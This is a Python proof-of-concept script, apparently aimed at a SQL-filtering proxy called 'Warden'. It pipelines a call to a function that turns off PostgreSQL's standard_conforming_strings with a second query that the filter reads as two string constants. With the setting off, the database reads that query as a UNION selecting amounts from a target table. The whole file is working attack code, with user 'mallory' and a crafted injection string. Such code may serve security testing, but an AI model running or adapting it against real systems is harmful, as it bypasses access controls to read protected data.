"""A pipelined Parse behind a function that turns standard_conforming_strings off.

The function runs in the first statement of a libpq pipeline (through
psycopg's libpq binding: both statements go as Parse, Bind, Describe and
Execute before one Sync). The second statement's text reads as two string
constants with the setting on, as Warden's parser reads it, and as a UNION
over TABLE with it off. PostgreSQL reports the change only at the batch's
ReadyForQuery, after it parsed the second statement.

Usage: pipelined_setting_change.py HOST PORT DATABASE TOKEN FUNCTION TABLE
Prints the rows of each statement, and the errors.
"""
import sys

import psycopg
from psycopg import pq


def main(host, port, database, token, function, table):
    connect = dict(host=host, port=int(port), dbname=database, user="mallory", password=token, sslmode="require",
                   autocommit=True)
    with psycopg.connect(**connect) as connection:
        pgconn = connection.pgconn
        pgconn.enter_pipeline_mode()
        pgconn.send_query_params(f"SELECT {function}()".encode(), None)
        second = "SELECT '\\', ' UNION ALL SELECT amount::text FROM " + table + " --'"
        pgconn.send_query_params(second.encode(), None)
        pgconn.pipeline_sync()
        pgconn.flush()
        while True:
            result = pgconn.get_result()
            if result is None:
                continue
            if result.status == pq.ExecStatus.PIPELINE_SYNC:
                return
            if result.status == pq.ExecStatus.FATAL_ERROR:
                message = (result.error_message or pgconn.error_message).decode(errors="replace").strip()
                print("error", message.splitlines()[0] if message else "?")
                if pgconn.status == pq.ConnStatus.BAD:
                    return
                continue
            rows = [[result.get_value(row, column) for column in range(result.nfields)] for row in range(result.ntuples)]
            print("rows", sorted([[value.decode() if value is not None else None for value in row] for row in rows]))

if __name__ == "__main__":
    main(*sys.argv[1:7])
